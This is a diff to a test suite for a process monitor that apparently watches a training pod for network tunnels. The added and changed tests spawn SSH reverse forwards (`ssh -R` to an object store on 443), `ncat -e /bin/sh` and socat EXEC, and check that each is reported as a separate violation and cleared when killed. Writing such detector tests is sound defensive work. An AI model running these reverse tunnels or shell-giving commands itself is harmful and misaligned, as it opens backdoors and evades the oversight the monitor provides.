@@ -483,8 +483,8 @@ SSH_OPTS = ["-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "User
 def test_ssh_forwards_in_any_spelling_and_not_ordinary_options(world: World, judge: Judge) -> None:
     """v1's pattern flagged `ssh -oUserKnownHostsFile=...` (it holds an R) and `ssh host ls -lR` as tunnels,
     and missed `-o 'RemoteForward ...'`. Real ssh clients, each to the allowed object store on 443 (the
-    working backdoor of the issue), one after another: the violation names each one as it comes. The
-    identity of a tool's violation is its name (`process:ssh`), so two at once would be one violation."""
+    working backdoor of the issue), one after another: the violation names each one as it comes (two
+    at once: the next test)."""
     need("ssh")
     twins = [
         world.pod.spawn("ssh", "-oUserKnownHostsFile=/dev/null", "-oStrictHostKeyChecking=no", "-oBatchMode=yes",
@@ -507,6 +507,37 @@ def test_ssh_forwards_in_any_spelling_and_not_ordinary_options(world: World, jud
     assert_clean(judge, training(judge), *twins)
     for pid in twins:
         world.pod.signal(pid, signal.SIGKILL)
+
+
+def test_a_second_tunnel_of_the_same_tool_is_a_violation_of_its_own(world: World, judge: Judge) -> None:
+    """The second engine keyed a tool's tunnel by its name (`process:ssh`): a second `ssh -R` to the
+    allowed 443, opened while the first stood, was in no decision (the quarantine's cut keeps that
+    connection and stops only the pid a decision names), and it stood on unreported after the first
+    was killed. Two real ssh clients: each is a `new` net.tunnel naming its own pid; killing the first
+    clears the first only."""
+    need("ssh")
+    first = world.pod.spawn("ssh", *SSH_OPTS, "-N", "-R", "2222:localhost:22", "-p", "443", OBJECT_STORE)
+    judge.until("the first tunnel", lambda: training(judge).standing("net.tunnel", first))
+    second = world.pod.spawn("ssh", *SSH_OPTS, "-N", "-R", "2223:localhost:22", "-p", "443", OBJECT_STORE)
+    alive = [first, second]
+    try:
+        v = judge.until(
+            "the second tunnel's own decision",
+            lambda: next((v for v in training(judge).new("net.tunnel") if v.evidence.get("pid") == second), None),
+        )
+        assert v.identity == f"process:ssh pid {second}"
+        world.pod.signal(alive.pop(0), signal.SIGKILL)
+        judge.until(
+            "the first tunnel cleared",
+            lambda: any(
+                d.kind == "cleared" and d.violation.evidence.get("pid") == first for d in training(judge).decisions
+            )
+            or None,
+        )
+        assert training(judge).standing("net.tunnel", second) is not None
+    finally:
+        for pid in alive:
+            world.pod.signal(pid, signal.SIGKILL)
 
 
 def test_ssh_with_a_config_file_and_dbclient_forwards(world: World, judge: Judge) -> None:
@@ -532,7 +563,7 @@ def test_socat_and_ncat_running_a_shell_for_the_peer(world: World, judge: Judge)
     ncat = world.pod.spawn("ncat", "-e", "/bin/sh", OBJECT_STORE, "443")
     relay = world.pod.spawn("socat", "-u", "FILE:/dev/null,ignoreeof", f"TCP:{OBJECT_STORE}:443")
     v = judge.until("socat EXEC", lambda: training(judge).standing("net.tunnel", socat))
-    assert v.identity == "process:socat"
+    assert v.identity == f"process:socat pid {socat}"
     judge.until("ncat -e", lambda: training(judge).standing("net.tunnel", ncat))
     assert_clean(judge, training(judge), relay)
     for pid in (socat, ncat, relay):
